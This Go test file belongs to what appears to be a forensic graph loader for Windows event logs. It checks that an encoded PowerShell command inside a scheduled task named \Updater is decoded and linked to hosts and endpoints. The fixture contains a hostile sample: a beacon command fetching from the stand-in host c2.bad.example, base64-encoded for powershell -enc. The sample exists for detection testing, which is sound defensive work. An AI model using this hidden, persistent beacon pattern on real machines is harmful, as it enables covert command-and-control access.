package loader_test

import (
	"encoding/base64"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/taskroot/taskroot/graph"
	"github.com/taskroot/taskroot/internal/graphtest"
)

// hidden is a script as powershell -enc takes it.
func hidden(script string) string {
	var b []byte
	for _, r := range script {
		b = append(b, byte(r), byte(r>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

const beacon = "iwr http://c2.bad.example:8080/a -Proxy http://198.51.100.7:3128"

// registered is a task's registration with one command.
func registered(host string, at time.Time, record uint64, command, arguments string) *graph.TaskChanged {
	escape := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;")
	return &graph.TaskChanged{
		Header: graph.Header{
			Host: host, HostName: host, Clock: graph.Clock{Claimed: at, Trust: graph.Honest},
			Evidence: graph.Evidence{Source: "s", Channel: "Security", Record: record, EventID: 4698, Time: at},
		},
		Path: `\Updater`, Change: graph.Created, User: `D\u`,
		XML: "<Task><Actions><Exec><Command>" + escape.Replace(command) + "</Command><Arguments>" + escape.Replace(arguments) + "</Arguments></Exec></Actions></Task>",
	}
}

// naming is a day on which one definition is registered on two hosts, and then
// one of them asks for the name and connects.
func naming() []graph.Observation {
	arguments := "-nop -enc " + hidden(beacon)
	at := func(s int) time.Time { return epoch.Add(time.Duration(s) * time.Second) }
	head := func(second int, record uint64, channel string, id uint32) graph.Header {
		return graph.Header{
			Host: "h1", HostName: "h1", Clock: graph.Clock{Claimed: at(second), Trust: graph.Honest},
			Evidence: graph.Evidence{Source: "s", Channel: channel, Record: record, EventID: id, Time: at(second)},
		}
	}
	p := graph.ProcessRef{GUID: guid(at(100), 1), PID: 44, Image: `C:\ps\powershell.exe`, CommandLine: "powershell.exe " + arguments, User: `D\u`}
	q := graph.ProcessRef{GUID: guid(at(200), 2), PID: 48, Image: images[0], CommandLine: "cmd /c dir", User: `D\u`}
	bare := graph.ProcessRef{PID: 48, Image: images[0]}
	return []graph.Observation{
		registered("h1", at(10), 1, "powershell.exe", arguments),
		registered("h2", at(300), 2, "powershell.exe", arguments),
		&graph.ProcessStarted{Header: head(100, 3, sysmonLog, 1), Process: p, Source: graph.StartSysmon},
		&graph.Asked{Header: head(101, 4, sysmonLog, 22), Process: p, Name: "c2.bad.example", Status: "0", Answers: []string{"52.1.1.9"}},
		// A connection to an address that the definition names, which turns out to be a name's: the address loses its contact and stays.
		&graph.Contacted{
			Header: head(201, 5, "Security", 5156), Process: bare, RemoteIP: "198.51.100.7", RemotePort: 3128, Protocol: "tcp", LocalPort: 50000, Source: "5156",
		},
		&graph.ProcessStarted{Header: head(200, 6, sysmonLog, 1), Process: q, Source: graph.StartSysmon},
		&graph.Asked{Header: head(202, 7, sysmonLog, 22), Process: q, Name: "proxy.corp.example", Status: "0", Answers: []string{"198.51.100.7"}},
	}
}

// TestDecoded holds what is written of a hidden command, whatever the order.
func TestDecoded(t *testing.T) {
	db, lib := open(t)
	load := func(round int, parts ...[]graph.Observation) []string {
		graphtest.Wipe(t, db)
		for _, part := range parts {
			if _, err := newLoader(t, db, lib, round).LoadObservations(t.Context(), part); err != nil {
				t.Fatal(err)
			}
		}
		return dump(t, db)
	}
	all := naming()
	want := load(1000, all)
	checkDecoded(t, want)
	for i := range all {
		turned := slices.Concat(naming()[i:], naming()[:i])
		slices.Reverse(turned[len(turned)/2:])
		if d := diff(want, load(1, turned)); d != "" {
			t.Errorf("turned by %d, one at a time:\n%s", i, d)
		}
	}
	if d := diff(want, load(3, naming(), naming())); d != "" {
		t.Errorf("twice:\n%s", d)
	}
}

func checkDecoded(t *testing.T, lines []string) {
	t.Helper()
	got := map[string]map[string]any{}
	for id, props := range parse(lines) {
		switch label, _, _ := strings.Cut(strings.Trim(id, "["), " "); label {
		case "TaskDefinition":
			got["definition"] = map[string]any{"decoded": props["decoded"], "firstSeen": props["firstSeen"], "lastSeen": props["lastSeen"]}
		case "Process":
			got[props["name"].(string)] = map[string]any{"decoded": props["decoded"]}
		case "Endpoint":
			delete(props, "gavePublic")
			delete(props, "gavePrivate")
			got[props["key"].(string)] = props
		case "NAMES":
			from, to, _ := strings.Cut(strings.Trim(id, "[]"), " ")
			_ = from
			_, to, _ = strings.Cut(to, " ")
			got["names "+to] = props
		case "UNDER":
			got[strings.Trim(id, "[]")] = props
		}
	}
	first, last := "2024-05-01T08:00:10Z", "2024-05-01T08:05:00Z"
	arguments := "-nop -enc " + hidden(beacon)
	want := map[string]map[string]any{
		"definition": {"firstSeen": first, "lastSeen": last, "decoded": []any{
			`{"command":"powershell.exe ` + arguments + `","text":"powershell.exe -nop -Command ` + beacon + `","steps":[{"name":"encoded-command","before":"` +
				"-enc " + hidden(beacon) + `","after":"-Command ` + beacon + `"}],"targets":[` +
				`{"kind":"url","host":"c2.bad.example","port":8080,"url":"http://c2.bad.example:8080/a"},` +
				`{"kind":"proxy","host":"198.51.100.7","port":3128,"url":"http://198.51.100.7:3128"}]}`,
		}},
		"powershell.exe":     {"decoded": "powershell.exe -nop -Command " + beacon},
		"cmd.exe":            {"decoded": nil},
		"c2.bad.example":     {"key": "c2.bad.example", "kind": "name", "scope": "public", "firstSeen": first, "lastSeen": last},
		"198.51.100.7":       {"key": "198.51.100.7", "kind": "ip", "scope": "reserved", "firstSeen": first, "lastSeen": last},
		"proxy.corp.example": {"key": "proxy.corp.example", "kind": "name", "scope": "internal", "firstSeen": "2024-05-01T08:03:21Z", "lastSeen": "2024-05-01T08:03:22Z"},

		"names c2.bad.example":                  {"via": "definition", "firstSeen": first, "lastSeen": last},
		"names 198.51.100.7":                    {"via": "definition", "proxy": true, "firstSeen": first, "lastSeen": last},
		"UNDER c2.bad.example bad.example":      {"firstSeen": first, "lastSeen": last},
		"UNDER proxy.corp.example corp.example": {"firstSeen": "2024-05-01T08:03:21Z", "lastSeen": "2024-05-01T08:03:22Z"},
	}
	for _, k := range slices.Sorted(maps.Keys(want)) {
		if !reflect.DeepEqual(got[k], want[k]) {
			t.Errorf("%s\n got %v\nwant %v", k, got[k], want[k])
		}
		delete(got, k)
	}
	if len(got) > 0 {
		t.Errorf("more than was expected: %v", got)
	}
}
